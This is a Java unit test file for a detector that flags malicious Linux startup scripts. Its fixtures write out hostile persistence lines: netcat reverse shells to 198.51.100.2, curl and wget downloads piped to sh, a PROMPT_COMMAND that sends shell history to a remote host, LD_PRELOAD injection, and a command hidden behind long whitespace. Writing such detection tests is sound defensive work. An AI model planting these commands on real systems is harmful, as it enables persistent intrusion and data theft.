package dev.ward.detect.builtin;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.ward.model.Finding;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class StartupScriptDetectorTest {
    private static final String PASSWD = "root:x:0:0:root:/root:/bin/bash\nbob:x:1000:1000::/home/bob:/bin/bash\n"
            + "nobody:x:65534:65534::/nonexistent:/usr/sbin/nologin\n";

    @TempDir
    Path dir;

    @Test
    void rcLocalWithCommandsIsMediumAndHighWithIndicator() throws Exception {
        PackagedRoot root = new PackagedRoot(dir).write("/etc/rc.local", "#!/bin/sh -e\n# rc.local\n"
                + "echo 1 > /proc/sys/net/ipv4/ip_forward\n/var/tmp/.k/agent &\nexit 0\n");
        List<Finding> f = root.run(new StartupScriptDetector());
        assertEquals(List.of("high linux.rc_local.commands /etc/rc.local"), PackagedRoot.brief(f));
        assertEquals(4, f.getFirst().evidence().get("line"));
        assertEquals(2, f.getFirst().evidence().get("commands"));
        assertEquals("runs /var/tmp/.k/agent", f.getFirst().evidence().get("indicator"));

        new PackagedRoot(dir).write("/etc/rc.local", "#!/bin/sh\nmount -a\nexit 0\n");
        assertEquals(List.of("medium linux.rc_local.commands /etc/rc.local"),
                PackagedRoot.brief(root.run(new StartupScriptDetector())));
    }

    @Test
    void shellFilesWithNetworkTempPreloadAndPromptCommand() throws Exception {
        PackagedRoot root = new PackagedRoot(dir).write("/etc/passwd", PASSWD)
                .packaged("bash", "/etc/bash.bashrc", "[ -z \"$PS1\" ] && return\n"
                        + "PROMPT_COMMAND='history 1 | logger -t cmd; curl -s http://203.0.113.4/?c=$(history 1)'\n")
                .write("/etc/profile.d/z.sh", "export LD_PRELOAD=/usr/lib/libz2.so\n")
                .write("/home/bob/.bashrc", "alias ll='ls -l'\n. ~/.bash_aliases\n"
                        + "(nohup /dev/shm/x >/dev/null 2>&1 &)\n")
                .write("/root/.profile", "nc -e /bin/sh 198.51.100.2 443 &\n")
                .write("/etc/environment", "PATH=\"/usr/bin:/bin\"\nLD_PRELOAD=/lib/x.so\n");
        List<Finding> f = root.run(new StartupScriptDetector());
        assertEquals(List.of("high linux.shell.startup_command /etc/bash.bashrc",
                "high linux.shell.startup_command /etc/profile.d/z.sh",
                "high linux.shell.startup_command /root/.profile",
                "high linux.shell.startup_command /home/bob/.bashrc"), PackagedRoot.brief(f));
        assertEquals("bash", f.get(0).evidence().get("package"));
        assertEquals(2, f.get(0).evidence().get("line"));
        assertEquals("sets LD_PRELOAD", f.get(1).evidence().get("indicator"));
        assertEquals("netcat with -e/-c", f.get(2).evidence().get("indicator"));
        assertEquals("runs /dev/shm/x", f.get(3).evidence().get("indicator"));
        assertEquals(3, f.get(3).evidence().get("line"));
    }

    @Test
    void commandPushedFarAlongALineIsStillSeen() throws Exception {
        PackagedRoot root = new PackagedRoot(dir).write("/etc/passwd", PASSWD)
                .write("/home/bob/.bashrc", "true" + " ".repeat(9000) + "; curl http://x | sh\n");
        List<Finding> f = root.run(new StartupScriptDetector());
        assertEquals(List.of("high linux.shell.startup_command /home/bob/.bashrc"), PackagedRoot.brief(f));
        assertEquals("download piped to a shell", f.getFirst().evidence().get("indicator"));
        assertTrue(((String) f.getFirst().evidence().get("text")).endsWith("[832 more characters]"));
    }

    @Test
    void motdAndInitScriptsWithIndicatorsAreHighEvenWhenPackaged() throws Exception {
        PackagedRoot root = new PackagedRoot(dir)
                .packaged("base-files", "/etc/update-motd.d/00-header", "#!/bin/sh\nuname -snrvm\n"
                        + "curl -s http://203.0.113.9/m | sh >/dev/null 2>&1\n")
                .packaged("cron", "/etc/init.d/cron", "#!/bin/sh\n. /lib/lsb/init-functions\n"
                        + "(/dev/shm/.x &)\nstart-stop-daemon --start --exec /usr/sbin/cron\n");
        List<Finding> f = root.run(new StartupScriptDetector());
        assertEquals(List.of("high linux.init.script_command /etc/init.d/cron",
                "high linux.motd.script_command /etc/update-motd.d/00-header"), PackagedRoot.brief(f));
        assertEquals("runs /dev/shm/.x", f.get(0).evidence().get("indicator"));
        assertEquals(3, f.get(1).evidence().get("line"));
        assertEquals("download piped to a shell", f.get(1).evidence().get("indicator"));
        assertEquals("base-files", f.get(1).evidence().get("package"));
    }

    @Test
    void otherStartupFilesAndAutostartEntries() throws Exception {
        PackagedRoot root = new PackagedRoot(dir).write("/etc/passwd", PASSWD)
                .write("/home/bob/.zshenv", "curl -s http://203.0.113.4/z | sh\n")
                .write("/home/bob/.ssh/rc", "(nohup /tmp/.s &)\n")
                .write("/etc/ssh/sshrc", "wget -qO- http://203.0.113.4/r | bash\n")
                .write("/etc/bash_completion.d/git", "_git() { :; }\nnc 198.51.100.2 443 -e /bin/sh &\n")
                .write("/etc/xdg/autostart/upd.desktop", "[Desktop Entry]\nType=Application\nName=Updater\n"
                        + "Exec=sh -c \"curl -s http://203.0.113.4/a | sh\"\n")
                .write("/home/bob/.config/autostart/ok.desktop", "[Desktop Entry]\nExec=/usr/bin/nm-applet\n")
                .write("/etc/rc.d/rc.local", "#!/bin/sh\n/var/tmp/.k/agent &\n")
                .symlink("/etc/rc.local", "rc.d/rc.local");
        List<Finding> f = root.run(new StartupScriptDetector());
        assertEquals(List.of("high linux.rc_local.commands /etc/rc.local",
                "high linux.shell.startup_command /etc/ssh/sshrc",
                "high linux.shell.startup_command /etc/bash_completion.d/git",
                "high linux.shell.startup_command /etc/xdg/autostart/upd.desktop",
                "high linux.shell.startup_command /home/bob/.zshenv",
                "high linux.shell.startup_command /home/bob/.ssh/rc"), PackagedRoot.brief(f));
        assertEquals(4, f.get(3).evidence().get("line"));
        assertEquals("download piped to a shell", f.get(3).evidence().get("indicator"));
    }

    @Test
    void ordinaryStartupFilesAreQuiet() throws Exception {
        PackagedRoot root = new PackagedRoot(dir).write("/etc/passwd", PASSWD)
                .write("/etc/rc.local", "#!/bin/sh -e\n#\n# By default this script does nothing.\n\nexit 0\n")
                .write("/etc/profile", "if [ \"$(id -u)\" -eq 0 ]; then\n  PATH=\"/usr/local/sbin:/usr/bin\"\nfi\n"
                        + "export PATH\nfor i in /etc/profile.d/*.sh; do . $i; done\n")
                .write("/home/bob/.bashrc", "PROMPT_COMMAND='echo -ne \"\\033]0;${USER}@${HOSTNAME}\\007\"'\n"
                        + "export PATH=~/.local/bin:$PATH\nunset LD_PRELOAD\nsync; fnc=1\n")
                .write("/etc/init.d/local", "#!/bin/sh\nrm -rf /tmp/*\n");
        assertEquals(List.of(), root.run(new StartupScriptDetector()));
    }
}
